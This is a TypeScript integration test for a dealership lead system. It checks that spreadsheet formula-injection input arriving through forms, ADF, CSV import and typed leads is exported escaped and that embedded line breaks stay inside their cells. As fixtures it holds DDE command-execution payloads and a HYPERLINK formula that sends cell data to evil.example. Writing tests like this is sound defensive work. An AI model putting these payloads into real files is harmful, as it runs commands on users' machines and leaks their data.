import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { asc, eq } from 'drizzle-orm';
import { createTestApp, type TestApp } from './testApp';
import { accessoryItems, leadOrigins, productColors, products } from '../../src/server/db/schema';
import { DEMO_ADF_KEY } from '../../src/server/features/leadsIo/adf/adfKeys';
import { isFormulaLike } from '../../src/server/features/leadsIo/export/safeCell';

/**
 * Issue 42: text that a spreadsheet would run as a formula, put in through every door a stranger or a
 * careless portal has (the public forms, ADF, an import, a typed lead), comes out of every export as
 * text: no cell starts with = + - @ tab or CR (an apostrophe is put before it) and a line break
 * inside a value stays inside its cell (no injected row).
 */
let t: TestApp;
const AGENCY = 1;
const ADF = readFileSync(new URL('./fixtures/adf-two-prospects.xml', import.meta.url), 'utf8');
const INJECTED = "@SUM(1+1)*cmd|' /C calc'!A0";
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';

beforeAll(async () => {
  t = await createTestApp({ leadsPerAgency: 10 });
});
afterAll(async () => t?.close());

const get = (email: string, url: string) => t.api(email, { method: 'GET', url, agencyId: AGENCY });

async function cells(email: string, url: string, format: 'csv' | 'xlsx'): Promise<string[][]> {
  const res = await get(email, `${url}${url.includes('?') ? '&' : '?'}format=${format}`);
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  let rows: string[][];
  if (format === 'csv') rows = parse(res.rawPayload, { bom: true, relax_column_count: true }) as string[][];
  else {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    rows = [];
    for (let i = 1; i <= ws.rowCount; i++) {
      const row = ws.getRow(i);
      const out: string[] = [];
      for (let c = 1; c <= ws.columnCount; c++) {
        const v = row.getCell(c).value;
        out.push(v instanceof Date ? v.toISOString() : v === null || v === undefined ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v));
      }
      rows.push(out);
    }
  }
  // Every row has the header's width (an injected row would be shorter), and the count is the list's.
  expect(rows.every((r) => r.length === rows[0]!.length)).toBe(true);
  expect(rows.length - 1).toBe(Number(res.headers['x-export-rows']));
  return rows;
}

/** No text cell a spreadsheet would evaluate, a number column's negative numbers aside (typed, not text). */
function assertNoFormula(rows: string[][], format: 'csv' | 'xlsx'): void {
  // An .xlsx phone stays '+52 55 1234 5678' (a text cell, only digits and spaces): never a formula.
  const allowed = (cell: string) => cell === '-' || /^-?\d+(\.\d+)?$/.test(cell) || (format === 'xlsx' && /^\+[\d ]+$/.test(cell));
  for (const row of rows) for (const cell of row) if (!allowed(cell)) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
}

async function exportsHold(email: string, url: string, expected: string): Promise<void> {
  for (const format of ['csv', 'xlsx'] as const) {
    const rows = await cells(email, url, format);
    assertNoFormula(rows, format);
    const seen = rows.flat().filter((c) => c.includes(expected.trim().slice(1, 12)));
    expect(seen.length, `${format} ${url}`).toBeGreaterThan(0);
    expect(seen.some((c) => c.replace(/\r\n?/g, '\n').includes(expected.replace(/\r\n?/g, '\n')))).toBe(true);
  }
}

describe('hostile text in, safe files out (issue 42)', () => {
  it('the public accessories interest form: a name with a line break and @SUM, in the accessories export', async () => {
    const [item] = await t.database.db.select({ id: accessoryItems.id }).from(accessoryItems).orderBy(asc(accessoryItems.id)).limit(1);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/public/accessories/interest',
      remoteAddress: '203.0.113.200',
      payload: { itemId: item!.id, agencyId: AGENCY, name: `Ana\n${INJECTED}`, email: 'ana.inyeccion@correo.mx', phone: '55 1234 5678', message: `=1+1` },
    });
    expect(res.statusCode, res.body).toBe(201);
    await exportsHold('manager@demo.mx', '/api/lead-accesorios/', `Ana\n${INJECTED}`);
    // The phone, '+52 55 1234 5678' as the screen shows it, is escaped in the CSV (a spreadsheet would compute it).
    const csv = await cells('manager@demo.mx', '/api/lead-accesorios/', 'csv');
    const mine = csv.find((r) => r.includes('ana.inyeccion@correo.mx'))!;
    expect(mine).toContain("'+52 55 1234 5678");
    const xlsx = await cells('manager@demo.mx', '/api/lead-accesorios/', 'xlsx');
    expect(xlsx.find((r) => r.includes('ana.inyeccion@correo.mx'))).toContain('+52 55 1234 5678');
  });

  it('the public fleet form: company and position starting with = and @, in the prospects export', async () => {
    const [product] = await t.database.db.select({ id: products.id }).from(products).orderBy(asc(products.id)).limit(1);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/public/fleet-prospects',
      remoteAddress: '203.0.113.201',
      payload: { agencyId: AGENCY, firstName: 'Roberto', lastName: 'Salinas', email: 'flotilla.inyeccion@correo.mx', phone: '8112345678', companyName: HYPERLINK, position: INJECTED, ProductId: product!.id, quantity: 3 },
    });
    expect(res.statusCode, res.body).toBe(202);
    await exportsHold('fleet-manager@demo.mx', '/api/lead-fleet-prospect', `'${HYPERLINK}`);
    await exportsHold('fleet-manager@demo.mx', '/api/lead-fleet-prospect', `'${INJECTED}`);
  });

  it('an ADF <name>, an import row and a typed firstName: in the leads export and the import report', async () => {
    const adf = ADF.replace('María José', '-2+3+cmd|&apos; /C calc&apos;!A0').replace(/SN-2026-11873(\d)/g, 'INJ-$1').replace('mj.hernandez.adf@example.mx', 'adf.inyeccion@correo.mx');
    const intake = await t.app.inject({ method: 'POST', url: `/api/public/adf/${AGENCY}`, headers: { 'content-type': 'application/xml', authorization: `Bearer ${DEMO_ADF_KEY}` }, payload: adf });
    expect(intake.statusCode, intake.body).toBe(201);

    const csvFile = `Nombre,Apellidos,Correo electrónico,Teléfono celular,Modelo de interés\n"@cmd|' /C notepad'!A0",Pérez,import.inyeccion@correo.mx,5511112222,Sei4 Pro\n`;
    const [origin] = await t.database.db.select().from(leadOrigins).limit(1);
    const imported = await t.api('manager@demo.mx', {
      method: 'POST',
      url: '/api/import/leads',
      agencyId: AGENCY,
      payload: { leadOriginId: origin!.id, fileName: 'hostil.csv', file: `data:text/csv;base64,${Buffer.from(csvFile).toString('base64')}` },
    });
    expect(imported.statusCode, imported.body).toBe(201);

    const [product] = await t.database.db.select().from(products).limit(1);
    const [color] = await t.database.db.select().from(productColors).where(eq(productColors.productId, product!.id)).limit(1);
    const typed = await t.api('admin@demo.mx', {
      method: 'POST',
      url: '/api/lead/',
      agencyId: AGENCY,
      payload: {
        data: {
          firstName: HYPERLINK,
          lastName: 'López',
          leadEmails: ['tecleado.inyeccion@correo.mx'],
          leadPhones: ['5598765432'],
          LeadOriginId: origin!.id,
          productId: product!.id,
          colorId: color!.id,
          AgencyId: AGENCY,
          buyType: 'retail',
          leadInterests: [{ ProductId: product!.id, ProductColorId: color!.id, quantity: 1 }],
        },
      },
    });
    expect(typed.statusCode, typed.body).toBe(201);

    await exportsHold('admin@demo.mx', '/api/lead/new', "'-2+3+cmd|' /C calc'!A0");
    await exportsHold('admin@demo.mx', '/api/lead/new', "'@cmd|' /C notepad'!A0");
    await exportsHold('admin@demo.mx', '/api/lead/new', `'${HYPERLINK}`);

    const report = await get('manager@demo.mx', `/api/import/leads/batches/${imported.json().data.id}/report`);
    expect(report.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(report.rawPayload as unknown as ArrayBuffer);
    const values = wb.worksheets[0]!.getSheetValues().flatMap((r) => (Array.isArray(r) ? r : [])).filter((v): v is string => typeof v === 'string');
    expect(values).toContain("'@cmd|' /C notepad'!A0");
    expect(values.filter((v) => v !== '-' && isFormulaLike(v))).toEqual([]);
  });
});
